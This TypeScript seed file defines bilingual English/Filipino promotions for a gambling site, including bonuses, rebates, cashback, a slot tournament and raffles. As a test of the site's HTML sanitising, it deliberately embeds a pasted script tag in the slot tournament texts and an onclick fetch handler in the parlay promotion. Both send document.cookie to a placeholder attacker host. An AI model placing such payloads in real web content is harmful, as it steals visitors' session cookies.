/**
 * Seeded promotions, written as an operator's editor would: English and Filipino (one only in
 * English, so the site's fallback shows), HTML terms with headings, lists, tables and links,
 * and, as real back-office content sometimes does, a pasted `<script>` and an inline event
 * handler that the site must strip. Periods are relative to the seed's moment, so a fresh
 * database always has current, upcoming and ended promotions.
 */
export interface PromotionText {
  title: string;
  summary: string;
  content: string;
}

export interface PromotionSeed {
  category: string;
  /** Starts at 00:00 Manila time this many days from the seed's day (negative: in the past). */
  startDay: number;
  /** Ends at 23:59:59 Manila time of this day; null for a standing offer. */
  endDay: number | null;
  colors: readonly [string, string];
  /** The picture's figure, the same in every language. */
  badge: string;
  raffle?: { prizes: readonly (readonly [amount: string, weight: number])[]; eligibleTypes?: readonly number[] };
  /** A deposit bonus the player joins on the deposit page (platform/deposits/bonus.ts); its terms say the same. */
  depositBonus?: {
    percentBps: number;
    maxBonus: string;
    minDeposit: string;
    turnoverMultiple: number;
    period: 'once' | 'day';
    firstDepositOnly: boolean;
    registeredWithinDays: number | null;
  };
  texts: { EN: PromotionText; TY?: PromotionText };
}

/** The closing line of every promotion's terms. */
const TERMS_EN = '<p>The <a href="/help/terms">general terms</a> apply to every promotion. 18+ only.</p>';
const TERMS_TY = '<p>Sumasaklaw sa lahat ng promosyon ang <a href="/help/terms">pangkalahatang tuntunin</a>. 18+ lamang.</p>';

/** What an editor once pasted from a tracking snippet: the site must never run it. */
const PASTED_SCRIPT = "<script>document.location='https://evil.example/steal?c='+document.cookie</script>";

export const PROMOTIONS: readonly PromotionSeed[] = [
  {
    category: 'welcome',
    startDay: -60,
    endDay: null,
    colors: ['#7b2ff7', '#f107a3'],
    badge: '100%',
    depositBonus: {
      percentBps: 10_000,
      maxBonus: '5000',
      minDeposit: '200',
      turnoverMultiple: 10,
      period: 'once',
      firstDepositOnly: true,
      registeredWithinDays: 7,
    },
    texts: {
      EN: {
        title: '100% Welcome Bonus up to ₱5,000',
        summary: 'Double your first deposit: deposit ₱200 or more and we match it 100%, up to ₱5,000.',
        content:
          '<p>New to Lucky Star? Your first deposit counts twice. Deposit at least <b>₱200.00</b> within 7 days of registering and we add a <b>100% bonus</b>, up to <b>₱5,000.00</b>.</p>' +
          '<h2>How it works</h2><ol><li>Register.</li><li>On the deposit page, choose this promotion and deposit ₱200.00 or more: your first deposit.</li><li>The bonus is credited together with the deposit, once it is paid.</li></ol>' +
          '<h2>Terms</h2><ul><li>Deposit and bonus must be wagered 10× before the bonus can be withdrawn; every game counts.</li><li>One welcome bonus per person, household, device and payment account.</li></ul>' +
          TERMS_EN,
      },
      TY: {
        title: '100% Welcome Bonus hanggang ₱5,000',
        summary: 'Doblehin ang unang deposit mo: mag-deposit ng ₱200 pataas at dadagdagan namin ito ng 100%, hanggang ₱5,000.',
        content:
          '<p>Bago ka ba sa Lucky Star? Doble ang halaga ng unang deposit mo. Mag-deposit ng hindi bababa sa <b>₱200.00</b> sa loob ng 7 araw mula nang magparehistro at bibigyan ka namin ng <b>100% bonus</b>, hanggang <b>₱5,000.00</b>.</p>' +
          '<h2>Paano ito gumagana</h2><ol><li>Magparehistro.</li><li>Sa pahina ng deposit, piliin ang promosyong ito at mag-deposit ng ₱200.00 o higit pa: ang una mong deposit.</li><li>Papasok ang bonus kasabay ng deposit, kapag nabayaran na ito.</li></ol>' +
          '<h2>Mga tuntunin</h2><ul><li>Kailangang ipusta nang 10× ang deposit at bonus bago ma-withdraw ang bonus; kasama ang lahat ng laro.</li><li>Isang welcome bonus lang bawat tao, sambahayan, device at payment account.</li></ul>' +
          TERMS_TY,
      },
    },
  },
  {
    category: 'deposit',
    startDay: -7,
    endDay: 53,
    colors: ['#11998e', '#38ef7d'],
    badge: '10%',
    depositBonus: {
      percentBps: 1_000,
      maxBonus: '1000',
      minDeposit: '300',
      turnoverMultiple: 5,
      period: 'day',
      firstDepositOnly: false,
      registeredWithinDays: null,
    },
    texts: {
      EN: {
        title: 'Daily Reload: 10% Extra',
        summary: 'Get 10% extra on one deposit each day, up to ₱1,000 a day.',
        content:
          '<p>Top up every day and get <b>10% extra</b> on one deposit a day, up to <b>₱1,000.00</b> a day.</p>' +
          '<ul><li>Choose this promotion on the deposit page; minimum deposit ₱300.00.</li><li>The bonus is credited together with the deposit, once it is paid.</li><li>Deposit and bonus must be wagered 5× on any game before the bonus can be withdrawn.</li></ul>' +
          '<p>Days run from 00:00 to 23:59 Philippine time.</p>' +
          TERMS_EN,
      },
      TY: {
        title: 'Daily Reload: 10% Dagdag',
        summary: 'Makakuha ng 10% dagdag sa isang deposit mo bawat araw, hanggang ₱1,000 kada araw.',
        content:
          '<p>Mag-top up araw-araw at makakuha ng <b>10% dagdag</b> sa isang deposit mo bawat araw, hanggang <b>₱1,000.00</b> kada araw.</p>' +
          '<ul><li>Piliin ang promosyong ito sa pahina ng deposit; pinakamababang deposit ₱300.00.</li><li>Papasok ang bonus kasabay ng deposit, kapag nabayaran na ito.</li><li>Kailangang ipusta nang 5× ang deposit at bonus sa kahit anong laro bago ma-withdraw ang bonus.</li></ul>' +
          '<p>Ang bawat araw ay mula 00:00 hanggang 23:59, oras sa Pilipinas.</p>' +
          TERMS_TY,
      },
    },
  },
  {
    category: 'rebate',
    startDay: -90,
    endDay: null,
    colors: ['#4568dc', '#b06ab3'],
    badge: '1.2%',
    texts: {
      EN: {
        title: 'Weekly Rebate up to 1.2%',
        summary: "Every Monday we pay back up to 1.2% of last week's valid bets, with no turnover required.",
        content:
          '<p>Every Monday before 12:00 we credit a rebate on the valid bets you placed from Monday to Sunday of the week before.</p>' +
          '<table><thead><tr><th scope="col">Valid bets in the week</th><th scope="col">Rebate</th></tr></thead><tbody>' +
          '<tr><td>₱1,000 – ₱49,999</td><td>0.5%</td></tr><tr><td>₱50,000 – ₱499,999</td><td>0.8%</td></tr><tr><td>₱500,000 and above</td><td>1.2%</td></tr></tbody></table>' +
          '<p>The rebate has no turnover requirement and can be withdrawn at once.</p>' +
          TERMS_EN,
      },
      TY: {
        title: 'Lingguhang Rebate hanggang 1.2%',
        summary: 'Tuwing Lunes, ibinabalik namin ang hanggang 1.2% ng mga valid bet mo noong nakaraang linggo, walang turnover.',
        content:
          '<p>Tuwing Lunes bago mag-12:00 ng tanghali, ipapasok namin ang rebate sa mga valid bet mo mula Lunes hanggang Linggo ng nakaraang linggo.</p>' +
          '<table><thead><tr><th scope="col">Valid bet sa isang linggo</th><th scope="col">Rebate</th></tr></thead><tbody>' +
          '<tr><td>₱1,000 – ₱49,999</td><td>0.5%</td></tr><tr><td>₱50,000 – ₱499,999</td><td>0.8%</td></tr><tr><td>₱500,000 pataas</td><td>1.2%</td></tr></tbody></table>' +
          '<p>Walang turnover ang rebate at puwede itong i-withdraw agad.</p>' +
          TERMS_TY,
      },
    },
  },
  {
    // Written in English only: a Filipino page shows it in English and says so.
    category: 'sports',
    startDay: -3,
    endDay: 27,
    colors: ['#0b486b', '#f56217'],
    badge: '+20%',
    texts: {
      EN: {
        title: 'Parlay Boost: up to 20% More',
        summary: 'Win a parlay of 4 legs or more and get up to 20% extra on your winnings.',
        content:
          '<p>Build a parlay of 4 or more selections, each at odds of 1.50 or higher. When it wins, we add a boost to your winnings:</p>' +
          '<ul><li>4–5 legs: <b>+5%</b></li><li>6–7 legs: <b>+10%</b></li><li>8 legs or more: <b>+20%</b></li></ul>' +
          '<p>The boost is capped at ₱10,000.00 per parlay and credited within 24 hours of settlement. ' +
          '<a href="/sports" onclick="fetch(\'https://evil.example/\'+document.cookie)">Go to Sports</a> to build your parlay.</p>' +
          TERMS_EN,
      },
    },
  },
  {
    category: 'live',
    startDay: -14,
    endDay: 46,
    colors: ['#232526', '#b8860b'],
    badge: '0.8%',
    texts: {
      EN: {
        title: 'Live Baccarat Cashback 0.8%',
        summary: 'Get 0.8% of every live baccarat bet back, paid daily, win or lose.',
        content:
          '<p>Play baccarat at any live table and get <b>0.8% cashback</b> on your valid bets, paid every day by 14:00 for the day before.</p>' +
          '<ul><li>Ties and cancelled rounds are not valid bets.</li><li>Cashback from ₱1.00, with no upper limit.</li><li>1× turnover before a withdrawal.</li></ul>' +
          TERMS_EN,
      },
      TY: {
        title: '0.8% Cashback sa Live Baccarat',
        summary: 'Ibabalik sa iyo ang 0.8% ng bawat taya sa live baccarat, araw-araw, panalo man o talo.',
        content:
          '<p>Maglaro ng baccarat sa kahit anong live table at makakuha ng <b>0.8% cashback</b> sa mga valid bet mo, ibinibigay araw-araw bago mag-14:00 para sa nakaraang araw.</p>' +
          '<ul><li>Hindi valid bet ang tie at ang mga kinanselang round.</li><li>Cashback mula ₱1.00, walang maximum.</li><li>1× turnover bago mag-withdraw.</li></ul>' +
          TERMS_TY,
      },
    },
  },
  {
    category: 'slots',
    startDay: -1,
    endDay: 29,
    colors: ['#f12711', '#f5af19'],
    badge: '₱100K',
    texts: {
      EN: {
        title: 'Daily Slot Tournament: ₱100,000 Prize Pool',
        summary: 'Spin any slot to climb the daily leaderboard. The top 100 players share ₱100,000 every day.',
        content:
          '<p>Every spin on a slot game earns tournament points: one point for every ₱1.00 bet. The leaderboard starts again at 00:00 each day.</p>' +
          PASTED_SCRIPT +
          '<table><thead><tr><th scope="col">Rank</th><th scope="col">Prize</th></tr></thead><tbody>' +
          '<tr><td>1st</td><td>₱20,000</td></tr><tr><td>2nd</td><td>₱10,000</td></tr><tr><td>3rd</td><td>₱5,000</td></tr>' +
          '<tr><td>4th – 10th</td><td>₱2,500</td></tr><tr><td>11th – 50th</td><td>₱900</td></tr><tr><td>51st – 100th</td><td>₱230</td></tr></tbody></table>' +
          '<p>Prizes are credited by 10:00 the next day, with 1× turnover. Our games are licensed and regulated by ' +
          '<a href="https://www.pagcor.ph/" target="_blank">PAGCOR</a>.</p>' +
          TERMS_EN,
      },
      TY: {
        title: 'Araw-araw na Slot Tournament: ₱100,000 na Premyo',
        summary: 'Mag-spin sa kahit anong slot para umakyat sa leaderboard. Hahatiin ng top 100 ang ₱100,000 araw-araw.',
        content:
          '<p>Bawat spin sa slot game ay may tournament points: isang puntos sa bawat ₱1.00 na taya. Magsisimula ulit ang leaderboard tuwing 00:00.</p>' +
          PASTED_SCRIPT +
          '<table><thead><tr><th scope="col">Puwesto</th><th scope="col">Premyo</th></tr></thead><tbody>' +
          '<tr><td>Ika-1</td><td>₱20,000</td></tr><tr><td>Ika-2</td><td>₱10,000</td></tr><tr><td>Ika-3</td><td>₱5,000</td></tr>' +
          '<tr><td>Ika-4 – ika-10</td><td>₱2,500</td></tr><tr><td>Ika-11 – ika-50</td><td>₱900</td></tr><tr><td>Ika-51 – ika-100</td><td>₱230</td></tr></tbody></table>' +
          '<p>Papasok ang mga premyo bago mag-10:00 kinabukasan, na may 1× turnover. Lisensyado at kinokontrol ng ' +
          '<a href="https://www.pagcor.ph/" target="_blank">PAGCOR</a> ang aming mga laro.</p>' +
          TERMS_TY,
      },
    },
  },
  {
    category: 'raffle',
    startDay: -2,
    endDay: 28,
    colors: ['#ee0979', '#ff6a00'],
    badge: '₱888',
    raffle: {
      prizes: [
        ['8.88', 600],
        ['18.88', 250],
        ['88.00', 120],
        ['188.00', 25],
        ['888.00', 5],
      ],
    },
    texts: {
      EN: {
        title: 'Lucky Star Raffle: a Prize for Every Player',
        summary: 'Claim one raffle prize from ₱8.88 up to ₱888.00, credited to your balance at once.',
        content:
          '<p>Every player with a real account can claim <b>one prize</b> in this raffle. Claim it and the draw picks your prize on the spot:</p>' +
          '<table><thead><tr><th scope="col">Prize</th><th scope="col">Chance</th></tr></thead><tbody>' +
          '<tr><td>₱888.00</td><td>0.5%</td></tr><tr><td>₱188.00</td><td>2.5%</td></tr><tr><td>₱88.00</td><td>12%</td></tr><tr><td>₱18.88</td><td>25%</td></tr><tr><td>₱8.88</td><td>60%</td></tr></tbody></table>' +
          '<ul><li>One claim per player. Trial accounts and agent accounts cannot take part.</li><li>The prize is added to your balance at once, with no turnover requirement.</li></ul>' +
          TERMS_EN,
      },
      TY: {
        title: 'Lucky Star Raffle: May Premyo ang Bawat Player',
        summary: 'Kunin ang isang raffle prize mula ₱8.88 hanggang ₱888.00, papasok agad sa iyong balanse.',
        content:
          '<p>Bawat player na may totoong account ay puwedeng kumuha ng <b>isang premyo</b> sa raffle na ito. Kunin ito at agad na bubunutin ang premyo mo:</p>' +
          '<table><thead><tr><th scope="col">Premyo</th><th scope="col">Tsansa</th></tr></thead><tbody>' +
          '<tr><td>₱888.00</td><td>0.5%</td></tr><tr><td>₱188.00</td><td>2.5%</td></tr><tr><td>₱88.00</td><td>12%</td></tr><tr><td>₱18.88</td><td>25%</td></tr><tr><td>₱8.88</td><td>60%</td></tr></tbody></table>' +
          '<ul><li>Isang beses lang bawat player. Hindi puwedeng sumali ang trial account at agent account.</li><li>Papasok agad sa balanse mo ang premyo, walang turnover.</li></ul>' +
          TERMS_TY,
      },
    },
  },
  {
    category: 'raffle',
    startDay: 12,
    endDay: 40,
    colors: ['#0f9b0f', '#c31432'],
    badge: '₱2,512',
    raffle: {
      prizes: [
        ['12.25', 700],
        ['122.50', 250],
        ['2512.00', 50],
      ],
    },
    texts: {
      EN: {
        title: 'Christmas Raffle',
        summary: 'From 12 days from now, every player can claim one Christmas prize of up to ₱2,512.00.',
        content:
          '<p>Our Christmas raffle opens soon. Every player with a real account will be able to claim one prize: <b>₱12.25</b>, <b>₱122.50</b> or <b>₱2,512.00</b>.</p>' +
          '<p>Come back when it opens; the prize goes straight to your balance.</p>' +
          TERMS_EN,
      },
      TY: {
        title: 'Pamaskong Raffle',
        summary: 'Simula 12 araw mula ngayon, bawat player ay puwedeng kumuha ng isang pamaskong premyo na hanggang ₱2,512.00.',
        content:
          '<p>Malapit nang magbukas ang aming pamaskong raffle. Bawat player na may totoong account ay puwedeng kumuha ng isang premyo: <b>₱12.25</b>, <b>₱122.50</b> o <b>₱2,512.00</b>.</p>' +
          '<p>Bumalik pagbukas nito; papasok agad sa balanse mo ang premyo.</p>' +
          TERMS_TY,
      },
    },
  },
  {
    // Ended: not listed any more, but its page still explains itself.
    category: 'raffle',
    startDay: -40,
    endDay: -10,
    colors: ['#1f1c2c', '#ff8008'],
    badge: '₱666',
    raffle: {
      prizes: [
        ['6.66', 700],
        ['66.00', 250],
        ['666.00', 50],
      ],
    },
    texts: {
      EN: {
        title: 'Halloween Raffle',
        summary: 'Our Halloween raffle gave every player a prize from ₱6.66 up to ₱666.00. Thank you for joining!',
        content: '<p>The Halloween raffle has ended and every prize has been credited. Watch this page for the next raffle.</p>' + TERMS_EN,
      },
      TY: {
        title: 'Halloween Raffle',
        summary: 'Nagbigay ang aming Halloween raffle ng premyo mula ₱6.66 hanggang ₱666.00 sa bawat player. Salamat sa pagsali!',
        content: '<p>Tapos na ang Halloween raffle at naipasok na ang lahat ng premyo. Abangan dito ang susunod na raffle.</p>' + TERMS_TY,
      },
    },
  },
];
